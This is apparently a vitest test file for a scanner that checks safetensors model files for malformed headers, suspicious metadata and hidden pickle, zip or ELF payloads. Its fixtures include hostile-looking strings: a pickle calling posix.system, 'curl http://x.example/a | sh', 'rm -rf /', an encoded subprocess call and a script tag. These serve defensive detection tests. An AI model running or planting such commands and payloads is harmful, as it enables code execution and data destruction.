import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { concat, latin1 } from '#formats/test-files/bytes';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { makeSafetensors, rawSafetensors } from '#formats/test-files/safetensors';
import { makeZip } from '#formats/test-files/zip';
import { scanBytes } from '../test-scan.ts';

const tensor = (type: string, shape: unknown, from: number, to: number) =>
  `{"dtype":"${type}","shape":${JSON.stringify(shape)},"data_offsets":[${from},${to}]}`;
const malicious = stream(reduce('posix', 'system', op.text('id')));

test('a well-formed file of any tensors is clean, counted and covered to the last byte', () => {
  const shapes = fc.dictionary(
    fc.string({ minLength: 1, maxLength: 20 }).filter((name) => name !== '__metadata__' && name !== '__proto__'),
    fc.array(fc.nat({ max: 5 }), { maxLength: 3 }),
    { maxKeys: 8 },
  );
  fc.assert(
    fc.property(shapes, (tensors) => {
      const bytes = makeSafetensors(tensors, { format: 'pt' });
      const scan = scanBytes(bytes);
      const parameters = Object.values(tensors).reduce((sum, shape) => sum + shape.reduce((product, each) => product * each, 1), 0);
      expect(scan).toMatchObject({ verdict: 'clean', outcome: 'scanned' });
      expect(scan.facts).toContainEqual({ label: 'Parameters', value: String(parameters) });
      expect(scan.coverage.at(-1)?.to).toBe(bytes.length);
    }),
    { numRuns: 200 },
  );
});

describe('every rule of the format', () => {
  const cases: readonly (readonly [string, Uint8Array, string])[] = [
    ['a header longer than the file', rawSafetensors('{"a":1}', 0, 5000), 'MDL-STF-001'],
    ['a header of 2^63 bytes', rawSafetensors('{"a":1}', 0, 2n ** 63n), 'MDL-STF-001'],
    ['a header that is no JSON', rawSafetensors('{"a":', 0), 'MDL-STF-001'],
    ['a header that does not start with its object', rawSafetensors(` {"a":${tensor('F32', [1], 0, 4)}}`, 4, undefined), 'MDL-STF-001'],
    ['something behind the object', rawSafetensors(`{"a":${tensor('F32', [1], 0, 4)}}x`, 4), 'MDL-STF-001'],
    ['a tensor without offsets', rawSafetensors('{"a":{"dtype":"F32","shape":[1]}}', 4), 'MDL-STF-001'],
    ['offsets in the wrong order', rawSafetensors(`{"a":${tensor('F32', [1], 4, 0)}}`, 4), 'MDL-STF-001'],
    ['a negative offset', rawSafetensors(`{"a":${tensor('F32', [1], -4, 0)}}`, 4), 'MDL-STF-001'],
    ['one tensor twice', rawSafetensors(`{"a":${tensor('F32', [1], 0, 4)},"a":${tensor('F32', [1], 0, 4)}}`, 4), 'MDL-STF-002'],
    ['one metadata key twice', rawSafetensors('{"__metadata__":{"a":"1","a":"2"}}', 0), 'MDL-STF-002'],
    [
      'one field of a tensor twice',
      rawSafetensors('{"a":{"dtype":"F32","dtype":"F16","shape":[1],"data_offsets":[0,4]}}', 4),
      'MDL-STF-002',
    ],
    ['overlapping tensors', rawSafetensors(`{"a":${tensor('F32', [2], 0, 8)},"b":${tensor('F32', [2], 4, 12)}}`, 12), 'MDL-STF-003'],
    ['a hole', rawSafetensors(`{"a":${tensor('F32', [1], 0, 4)},"b":${tensor('F32', [1], 8, 12)}}`, 12), 'MDL-STF-004'],
    ['a tensor outside the file', rawSafetensors(`{"a":${tensor('F32', [100], 0, 400)}}`, 4), 'MDL-STF-005'],
    ['a size that does not fit the shape', rawSafetensors(`{"a":${tensor('F32', [2], 0, 4)}}`, 4), 'MDL-STF-006'],
    ['a shape that overflows', rawSafetensors(`{"a":${tensor('F32', [4294967296, 4294967296], 0, 4)}}`, 4), 'MDL-STF-006'],
    ['an unknown type', rawSafetensors(`{"a":${tensor('F33', [1], 0, 4)}}`, 4), 'MDL-STF-007'],
    ['bytes behind the last tensor', rawSafetensors(`{"a":${tensor('F32', [1], 0, 4)}}`, 40), 'MDL-STF-008'],
    ['metadata that is no map of strings', rawSafetensors('{"__metadata__":{"a":{"b":1}}}', 0), 'MDL-STF-010'],
    ['a key that is no tensor', rawSafetensors('{"a":"b"}', 0), 'MDL-STF-010'],
  ];
  test.each(cases)('%s', (_name, bytes, rule) => {
    expect(scanBytes(bytes).rules).toContain(rule);
  });
});

describe('metadata', () => {
  const texts: readonly (readonly [string, boolean])[] = [
    ['<script>alert(1)</script>', true],
    ['import os; os.system("id")', true],
    ['curl http://x.example/a | sh', true],
    ['rm -rf /', true],
    [Buffer.from('import subprocess; subprocess.call(["id"])').toString('base64'), true],
    ['Trained on 8 GPUs. See https://example.org/card; call model.eval() first.', false],
    ['{"ss_learning_rate": "1e-4", "ss_network_module": "networks.lora"}', false],
  ];
  test.each(texts)('%s', (text, acts) => {
    expect(scanBytes(makeSafetensors({ a: [1] }, { note: text })).rules).toEqual(acts ? ['MDL-STF-009'] : []);
  });

  test('is shown with its pointer and the bytes it stands in', () => {
    const bytes = makeSafetensors({ a: [1] }, { 'a/b': 'rm -rf /' });
    const [found] = scanBytes(bytes).observations;
    expect(found?.location.pointer).toBe('/__metadata__/a~1b');
    const at = found?.location.offset ?? 0;
    expect(Buffer.from(bytes.subarray(at, at + (found?.location.length ?? 0))).toString()).toBe('"rm -rf /"');
  });
});

describe('hidden files', () => {
  test('a zip with a payload behind the last tensor is opened', () => {
    const scan = scanBytes(concat(makeSafetensors({ a: [2] }), makeZip([{ name: 'x', data: malicious }])));
    expect(scan.rules).toEqual(['MDL-PKL-001', 'MDL-STF-008', 'MDL-ZIP-007']);
  });

  test('a pickle behind junk behind the last tensor is found', () => {
    expect(scanBytes(concat(makeSafetensors({ a: [2] }), new Uint8Array(50).fill(255), malicious)).rules).toEqual([
      'MDL-PKL-001',
      'MDL-STF-008',
    ]);
  });

  test('a tensor that is a pickle or a program is told', () => {
    const header = (length: number) => `{"a":${tensor('U8', [length], 0, length)}}`;
    expect(scanBytes(rawSafetensors(header(malicious.length), malicious)).rules).toEqual(['MDL-PKL-001', 'MDL-STF-011']);
    const program = latin1(`\x7fELF${'\x00'.repeat(60)}`);
    expect(scanBytes(rawSafetensors(header(program.length), program)).rules).toEqual(['MDL-STF-011']);
  });
});
